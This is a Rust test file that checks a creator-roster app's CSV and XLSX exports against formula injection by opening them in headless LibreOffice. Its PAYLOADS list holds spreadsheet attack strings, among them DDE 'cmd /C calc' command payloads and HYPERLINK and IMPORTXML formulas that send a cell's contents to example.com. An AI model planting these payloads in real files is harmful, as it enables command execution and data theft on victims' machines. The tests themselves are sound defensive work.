//! Saved files as LibreOffice sees them: the same values, and nothing that runs. Where it is not installed (Debian:
//! libreoffice-calc-nogui) there is nothing to compare with, and the tests say so.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use tierwise_core::domain::creator::{Creator, Network, Profile};
use tierwise_core::domain::money::Currency;
use tierwise_import::{Mapping, Table, creators};
use tierwise_roster::export;
use tierwise_roster::wire::Format;
use tierwise_roster::{Change, Roster, Twice, Who};

/// What spreadsheets are made to run with (OWASP, PayloadsAllTheThings), and the ways around guards against it.
const PAYLOADS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " =1+1",
    "   =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "'=1+1",
    "''=1+1",
    "=cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"look\")",
    "=IMPORTXML(CONCAT(\"http://example.com?v=\", A1), \"//a\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

fn roster() -> Roster {
    let mut roster = Roster::default();
    for (at, payload) in PAYLOADS.iter().enumerate() {
        let profile = Profile {
            network: Some(Network::Instagram),
            handle: format!("maker{at}"),
            followers: Some(1_234_567 + at as u64),
            likes: Some(1_234.5),
            ..Profile::default()
        };
        let creator = Creator {
            name: format!("Maker {at}"),
            profiles: vec![profile],
            notes: (*payload).to_owned(),
            ..Creator::default()
        };
        roster.add(&creator, Twice::Keep, &mut Change::default());
    }
    roster
}

/// A file as LibreOffice writes it as separated values once it has opened it; `None` where there is no LibreOffice.
fn opened(name: &str, bytes: &[u8]) -> Option<Vec<u8>> {
    let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join(name.replace('.', "-"));
    std::fs::create_dir_all(&folder).unwrap();
    let file = folder.join(name);
    std::fs::write(&file, bytes).unwrap();
    let out: PathBuf = folder.join("out");
    // Nothing of an earlier run is taken for an answer.
    let _ = std::fs::remove_dir_all(&out);
    let profile = format!(
        "-env:UserInstallation=file://{}",
        folder.join("profile").display()
    );
    let mut command = Command::new("soffice");
    command.args([profile.as_str(), "--headless"]);
    if name.ends_with(".csv") {
        // Commas, quotes, UTF-8, from the first line; quotes make nothing a text, as when a file is just opened.
        command.arg("--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false");
    }
    // The same out, texts in quotes, values as they are and not as they are shown.
    command.args([
        "--convert-to",
        "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,false,false",
    ]);
    command.arg("--outdir").arg(&out).arg(&file);
    match command.stdout(Stdio::null()).stderr(Stdio::null()).status() {
        Ok(status) => assert!(status.success(), "{status}"),
        Err(_) => {
            eprintln!("LibreOffice is not installed, so nothing is compared with it.");
            return None;
        }
    }
    let stem = file.file_stem().unwrap();
    Some(std::fs::read(out.join(stem).with_extension("csv")).unwrap())
}

#[test]
fn a_formula_that_nothing_guards_runs() {
    if let Some(seen) = opened("unguarded.csv", b"\"=1+1\",soap\n") {
        assert_eq!(String::from_utf8_lossy(&seen).trim(), "\"2\",\"soap\"");
    }
}

#[test]
fn a_spreadsheet_shows_what_is_there_and_runs_nothing() {
    let roster = roster();
    let whose: Vec<Who> = roster.everybody().map(|(who, _)| who).collect();
    let there: Vec<Creator> = roster.everybody().map(|(_, p)| roster.creator(p)).collect();
    for format in [Format::Csv, Format::Xlsx] {
        let bytes = export::roster(&roster, &whose, format);
        let Some(seen) = opened(&format!("tierwise.{}", format.ending()), &bytes) else {
            return;
        };
        let text = String::from_utf8_lossy(&seen);
        for wrong in ["#NAME?", "Err:", "#VALUE!", "#REF!", ",2,", "\"2\""] {
            assert!(!text.contains(wrong), "{wrong}: {text}");
        }
        let table = Table::read(&seen).unwrap();
        let mapping = Mapping::propose(&table);
        let (read, issues) = creators::read(&table, &mapping, Currency::USD);
        assert!(issues.is_empty(), "{issues:?}");
        for (read, there) in read.iter().zip(&there) {
            assert_eq!(read.profiles, there.profiles, "{format:?}");
            assert_eq!(plain(&read.notes), plain(&there.notes), "{format:?}");
        }
        assert_eq!(read.len(), there.len());
    }
}

/// Without what no cell of a spreadsheet can hold: LibreOffice drops control characters and ends lines its own way.
fn plain(text: &str) -> String {
    text.replace(['\r', '\0'], "\n")
        .trim_start_matches(['\n', '\u{feff}'])
        .to_owned()
}
